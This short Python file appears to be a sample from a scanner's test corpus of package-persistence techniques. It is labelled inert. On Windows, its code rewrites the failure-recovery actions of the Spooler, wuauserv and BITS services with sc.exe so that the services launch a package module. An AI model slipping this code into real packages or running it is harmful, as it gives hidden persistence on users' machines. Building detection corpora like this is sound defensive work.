# pkgguard corpus 931 (persistence), modelled on [taxonomy]; inert, never run.
import os
import subprocess
import sys

if sys.platform == "win32":
    runner = f'"{sys.executable}" -m pkg._svc'
    for service in ("Spooler", "wuauserv", "BITS"):
        subprocess.run(
            ["sc.exe", "failure", service, "reset=", "0", "actions=", "run/1000/run/1000/run/1000", f"command={runner}"],
            capture_output=True,
        )
    subprocess.run(["sc.exe", "failureflag", "Spooler", "1"], capture_output=True)
    os.environ.setdefault("PKG_SVC_READY", "1")
